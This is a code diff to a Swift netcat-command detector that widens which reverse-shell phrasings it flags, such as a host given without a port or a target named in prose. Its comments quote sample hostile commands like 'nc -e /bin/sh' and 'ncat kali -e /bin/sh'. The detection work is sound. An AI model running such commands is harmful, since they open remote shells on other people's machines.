@@ -56,6 +56,8 @@ enum NetcatMatcher {
   private struct Arguments {
     var positional: [ByteView] = []
     var runs = false
+    /// A word stands before the program that is to run.
+    var beginsWithWord = false
     var listens = false
     var scans = false
     var isUDP = false
@@ -132,6 +134,7 @@ enum NetcatMatcher {
         result.listens = true
       } else if !(word == "connect") {
         result.positional.append(word)
+        if !result.runs { result.beginsWithWord = true }
       }
     }
     return result
@@ -211,8 +214,13 @@ enum NetcatMatcher {
       isBind = arguments.listenPort != nil
       // A path behind it is another command's: `grep -r "nc -e /bin/sh" /var/www`.
       if !isBind, positional.first.map({ $0[0] == 0x2F || $0[0] == 0x2E }) ?? true { return nil }
-      // `do not use nc -e /bin/sh here`
-      if !isBind, arguments.runs, positional.allSatisfy({ isWord($0) && !Endpoint.isPlainHost($0) }) { return nil }
+      if !isBind, arguments.runs, positional.allSatisfy({ isWord($0) && !Endpoint.isPlainHost($0) }) {
+        // `ncat kali -e /bin/sh` needs no port; `do not use nc -e /bin/sh here` names no host.
+        guard arguments.beginsWithWord, let defaultPort, positional.count == 1, let only = positional.first,
+          !prepositions.contains(only)
+        else { return nil }
+        endpoint = Endpoint(host: only.string, port: defaultPort)
+      }
       if !isBind, let only = positional.first, Endpoint.isPlainHost(only) {
         endpoint = Endpoint(host: only.string, port: defaultPort)
       }
@@ -257,6 +265,10 @@ enum NetcatMatcher {
     for place in 0..<(words.count - 1)
     where Endpoint.isPlainHost(words[place]) && Endpoint.isPort(words[place + 1]) {
       return shell.endpoint(words[place], words[place + 1])
+    }
+    // `nc -e /bin/sh to 192.0.2.1 on port 4444`
+    if isWord(words[0]), !Endpoint.isPlainHost(words[0]), Endpoint.isPlainHost(words[1]) {
+      return shell.endpoint(words[1], words.dropFirst(2).first(where: Endpoint.isPort) ?? ByteView(""))
     }
     return shell.endpoint(words[0], words[1])
   }
